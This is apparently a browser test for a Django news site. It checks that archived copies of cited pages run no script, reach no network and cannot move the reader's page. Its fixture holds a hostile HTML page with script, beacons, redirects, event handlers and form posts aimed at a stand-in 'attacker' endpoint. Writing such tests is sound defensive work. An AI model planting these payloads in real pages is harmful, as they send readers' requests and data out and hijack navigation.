"""An archived page that tries to attack readers, replayed in a real browser: it must not run
script, reach the network or move the reader's page."""

import pytest
from django.urls import reverse
from playwright.sync_api import expect

from articles.evidence.capturing import capture_citation
from articles.models import Citation
from tests.cited_pages import Answer, CitedSite
from tests.factories import make_article, make_source

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def hostile_page(attacker):
    stolen = attacker.url("/stolen")
    return f"""<!doctype html><html><head><title>Hostile statement</title>
<meta http-equiv="refresh" content="1;url={stolen}-refresh">
<link rel="stylesheet" href="{stolen}-style">
<script>
  alert("script ran");
  fetch("{stolen}-fetch");
  new Image().src = "{stolen}-image";
  try {{ parent.document.title = "pwned"; }} catch (error) {{}}
  top.location = "{stolen}-top";
</script></head>
<body onload="alert('onload ran'); top.location = '{stolen}-onload'">
<h1 id="statement">Hostile statement</h1>
<img src="{stolen}-img" onerror="alert('onerror ran')">
<iframe src="{stolen}-frame"></iframe>
<a id="escape" href="{stolen}-link" target="_top">Read more</a>
<a id="popup" href="{stolen}-popup" target="_blank">Open</a>
<form action="{stolen}-form" method="post"><button id="send">Send</button></form>
</body></html>""".encode()


@pytest.fixture
def attacker():
    """Where the hostile page tries to send readers and their data."""
    site = CitedSite()
    yield site
    site.stop()


@pytest.fixture
def cited(settings, attacker):
    site = CitedSite()
    settings.NEWSROOM_EVIDENCE_ALLOWED_ADDRESSES = [f"127.0.0.1:{site.port}"]
    site.routes["/robots.txt"] = Answer(b"", status=404)
    site.routes["/statement"] = Answer(hostile_page(attacker))
    yield site
    site.stop()


def test_a_hostile_archived_page_runs_no_script_and_reaches_nothing(
    page, live_server, cited, attacker
):
    citation = Citation.objects.create(
        article=make_article(), source=make_source(), url=cited.url("/statement")
    )
    copy = capture_citation(citation.pk)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    replay_url = f"{live_server.url}{copy.get_absolute_url()}"

    page.goto(replay_url)

    frame = page.frame_locator("iframe.replay__frame")
    expect(frame.locator("#statement")).to_have_text("Hostile statement")
    frame.locator("#escape").click()
    frame.locator("#popup").click()
    frame.locator("#send").click()
    page.wait_for_timeout(1500)
    assert page.url == replay_url
    assert page.context.pages == [page]  # no pop-up opened
    assert page.title().startswith("Archived copy")
    # The frame's document has an origin of its own: the page cannot be reached from it.
    assert page.evaluate("document.querySelector('iframe.replay__frame').contentDocument") is None

    # Opened on its own, the copy's own policy still runs no script.
    content_url = f"{live_server.url}{reverse('articles:archived-copy-content', args=[copy.key])}"
    page.goto(content_url)
    expect(page.locator("#statement")).to_have_text("Hostile statement")
    page.wait_for_timeout(1500)
    assert page.url == content_url

    assert dialogs == []
    assert attacker.requests == []
